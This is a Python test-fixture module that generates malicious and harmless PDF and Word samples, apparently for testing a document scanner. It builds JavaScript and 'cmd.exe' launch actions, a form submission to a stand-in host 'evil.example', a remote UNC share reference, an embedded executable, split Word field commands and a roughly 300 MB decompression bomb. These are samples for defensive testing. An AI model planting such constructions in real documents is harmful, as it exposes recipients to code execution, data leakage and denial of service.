"""PDF and Word documents of strangers, good and bad, made for tests."""

import os
import zipfile
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

MB = 1024 * 1024
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def pdf(*changes: Callable[[Pdf], None], **options: Any) -> bytes:
    """One page with these changes."""
    document = pikepdf.new()
    document.add_blank_page()
    for change in changes:
        change(document)
    out = BytesIO()
    document.save(out, **options)
    return out.getvalue()


def script(document: Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def launch(document: Pdf) -> None:
    action = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    document.pages[0].Annots = Array([document.make_indirect(link)])


def chained(document: Pdf) -> None:
    """Behind a harmless first command."""
    second = Dictionary(S=Name.SubmitForm, F=String("http://evil.example"))
    document.Root.OpenAction = Dictionary(S=Name.Named, N=Name.NextPage, Next=second)


def link(document: Pdf) -> None:
    action = Dictionary(S=Name.URI, URI=String("https://gosuslugi.example"))
    drawn = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    document.pages[0].Annots = Array([document.make_indirect(drawn)])


def attachment(document: Pdf) -> None:
    document.attachments["setup.exe"] = b"MZ the program inside"


def portfolio(document: Pdf) -> None:
    attachment(document)
    document.Root.Collection = Dictionary()


def xfa(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=Stream(document, b"<xdp/>"))


def dynamic_form(document: Pdf) -> None:
    xfa(document)
    document.Root.NeedsRendering = True


def film(document: Pdf) -> None:
    drawn = Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]), RichMediaContent=Dictionary()
    )
    document.pages[0].Annots = Array([document.make_indirect(drawn)])


def hidden(document: Pdf) -> None:
    """A command at a place that nobody knows of."""
    document.Root.Anything = Dictionary(Deep=Array([Dictionary(S=Name.Launch, F=String("cmd.exe"))]))


def elsewhere(document: Pdf) -> None:
    """A part whose data lie on somebody's server."""
    document.Root.Part = Stream(document, b"", F=String("\\\\evil.example\\share"))


def bomb(document: Pdf) -> None:
    """A megabyte of zeros 300 times, packed once: full flushes stand for themselves."""
    packing = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    megabyte = packing.compress(bytes(MB)) + packing.flush(zlib.Z_FULL_FLUSH)
    packed = b"\x78\xda" + megabyte * 300 + packing.flush() + zlib.adler32(bytes(300 * MB)).to_bytes(4)
    stream = document.make_stream(b"")
    stream.write(packed, filter=Name.FlateDecode)
    document.pages[0].Contents = stream


def heavy(document: Pdf) -> None:
    """Two megabytes that cannot be packed."""
    document.pages[0].Contents = document.make_stream(os.urandom(2 * MB))


def packed_twice(document: Pdf) -> None:
    stream = document.make_stream(b"")
    stream.write(zlib.compress(zlib.compress(bytes(MB))), filter=Array([Name.FlateDecode] * 2))
    document.Root.Part = stream


def word(parts: Mapping[str, str | bytes] | None = None, **zipped: Any) -> bytes:
    """A Word document with further parts."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {**BARE, **(parts or {})}.items():
            archive.writestr(name, data)
    return out.getvalue()


BARE: Mapping[str, str | bytes] = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    "word/document.xml": f'<w:document xmlns:w="{_WORDS}"><w:body/></w:document>',
}


def bond(kind: str, target: str, mode: str = "External") -> str:
    """A part that ties the document to something."""
    return (
        f'<Relationships xmlns="{_PACKAGE}">'
        f'<Relationship Id="r1" Type="{_RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</Relationships>"
    )


def command(*runs: str) -> str:
    """A field, its command cut into runs of text."""
    texts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:document xmlns:w="{_WORDS}"><w:body><w:p>{texts}</w:p></w:body></w:document>'
